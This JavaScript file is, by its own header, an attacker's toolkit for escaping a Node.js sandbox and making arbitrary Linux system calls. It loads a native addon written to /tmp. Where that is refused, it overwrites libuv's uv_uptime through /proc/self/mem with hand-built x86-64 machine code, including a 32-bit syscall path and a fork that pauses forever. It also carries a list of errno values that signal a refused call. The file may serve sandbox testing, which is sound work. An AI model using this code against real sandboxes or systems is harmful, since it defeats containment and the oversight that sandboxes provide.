/**
 * What an attacker brings along to leave JavaScript: any system call, in two ways.
 *
 *     const native = eval(context.body.toolkit)(context.body.addon);
 *     native.call(39)                   // getpid(); a negative result is an errno
 *     native.call(165, 'none', '/tmp')  // strings and Buffers are passed by address
 *
 * The first way is an addon, written to /tmp and loaded by dlopen. Where that is refused, machine code is
 * written through /proc/self/mem over a function of libuv's that os.uptime() calls; its arguments live in
 * memory that its first system call, mmap, has got. x86-64 only, as the addon is.
 */

// How a call is made: the ordinary way, by the 32-bit door, or so that a new process pauses for ever.
const [OWN, FOREIGN, PAUSING] = [0, 1, 2];
// What a filter answers with, or the kernel for want of a privilege: it did not look any further.
const REFUSALS = [-1, -13, -38, -97];
const FORK = 57;

function byDlopen(addon) {
  const path = `/tmp/attack-addon-${process.pid}.node`;
  require('fs').writeFileSync(path, Buffer.from(addon, 'base64'));
  const module = { exports: {} };
  process.dlopen(module, path);
  const terminated = (value) => (typeof value === 'string' ? Buffer.from(`${value}\0`) : value);
  return (abi, number, ...args) => module.exports(abi, number, ...args.map(terminated));
}

function byMemory() {
  const fs = require('fs');
  const memory = fs.openSync('/proc/self/mem', 'r+');
  const code = Number(addressOf('uv_uptime'));
  const raw = (abi, number, args) => {
    fs.writeSync(memory, machineCode(abi, number, args), 0, undefined, code);
    return require('os').uptime();
  };
  // mmap(0, 1 MiB, read and write, private and anonymous)
  const area = raw(OWN, 9, [0, 1 << 20, 3, 0x22, -1, 0]);
  if (area < 0) throw new Error(`mmap: ${-area}`);
  return (abi, number, ...args) => {
    let used = 0;
    const buffers = [];
    const words = args.map((value) => {
      if (typeof value === 'number') return value;
      const bytes = typeof value === 'string' ? Buffer.from(`${value}\0`) : value;
      const at = area + used;
      used += (bytes.length + 15) & ~15;
      fs.writeSync(memory, bytes, 0, bytes.length, at);
      buffers.push([bytes, at]);
      return at;
    });
    const result = raw(abi, number, words);
    for (const [bytes, at] of buffers) fs.readSync(memory, bytes, 0, bytes.length, at);
    return result;
  };
}

/** A function's address: Node exports its symbols, for addons. */
function addressOf(name) {
  const fs = require('fs');
  const exe = fs.openSync('/proc/self/exe', 'r');
  const read = (at, length) => {
    const bytes = Buffer.alloc(length);
    fs.readSync(exe, bytes, 0, length, Number(at));
    return bytes;
  };
  const head = read(0, 64);
  const [sectionTable, sectionCount] = [head.readBigUInt64LE(40), head.readUInt16LE(60)];
  const sections = Array.from({ length: sectionCount }, (_, i) => read(sectionTable + BigInt(i * 64), 64));
  const DYNSYM = 11;
  const table = sections.find((section) => section.readUInt32LE(4) === DYNSYM);
  const contents = (section) => read(section.readBigUInt64LE(24), Number(section.readBigUInt64LE(32)));
  const [symbols, strings] = [contents(table), contents(sections[table.readUInt32LE(40)])];
  const wanted = strings.indexOf(`\0${name}\0`) + 1;
  const ET_EXEC = 2;
  const fixed = head.readUInt16LE(16) === ET_EXEC;
  const base = fixed ? 0 : parseInt(fs.readFileSync('/proc/self/maps', 'latin1'), 16);
  for (let at = 0; at < symbols.length; at += 24) {
    if (symbols.readUInt32LE(at) === wanted) return symbols.readBigUInt64LE(at + 8) + BigInt(base);
  }
  throw new Error(`there is no ${name}`);
}

/** uv_uptime(double *result): the call, its result as a double, and 0 for "no error". */
function machineCode(abi, number, args) {
  const load = (opcode, value) => {
    const bytes = Buffer.alloc(10);
    bytes.writeUInt16BE(opcode);
    bytes.writeBigInt64LE(BigInt(value ?? 0), 2);
    return bytes;
  };
  const hex = (text) => Buffer.from(text.replaceAll(' ', ''), 'hex');
  const saved = hex('57 53');
  const returned = hex('5b 5f f2480f2ac0 f20f1107 31c0 c3');
  if (abi === FOREIGN) {
    const registers = [0x48bb, 0x48b9, 0x48ba].map((opcode, index) => load(opcode, args[index]));
    return Buffer.concat([saved, load(0x48b8, number), ...registers, hex('cd80 4863c0'), returned]);
  }
  const registers = [0x48bf, 0x48be, 0x48ba, 0x49ba, 0x49b8, 0x49b9].map((opcode, index) => load(opcode, args[index]));
  // Where the call returns 0, this is the new process.
  const pause = abi === PAUSING ? hex('4885c0 7509 b822000000 0f05 ebf7') : Buffer.alloc(0);
  return Buffer.concat([saved, load(0x48b8, number), ...registers, hex('0f05'), pause, returned]);
}

function arm(addon) {
  let how = 'nothing';
  let invoke = () => -38;
  for (const [name, arming] of [['dlopen', byDlopen], ['/proc/self/mem', byMemory]]) {
    try {
      invoke = arming(addon);
      how = name;
      break;
    } catch {
      // Then the next one.
    }
  }
  return {
    /** How native code was had; where it was not, every call is refused. */
    how,
    byMemory,
    call: (number, ...args) => invoke(OWN, number, ...args),
    callForeign: (number, ...args) => invoke(FOREIGN, number, ...args),
    /** A call that makes a process, which does nothing for ever; its pid, or an errno. */
    start: (number = FORK, ...args) => invoke(PAUSING, number, ...args),
    refused: (result) => REFUSALS.includes(result),
  };
}

// What eval() of this gives.
arm;
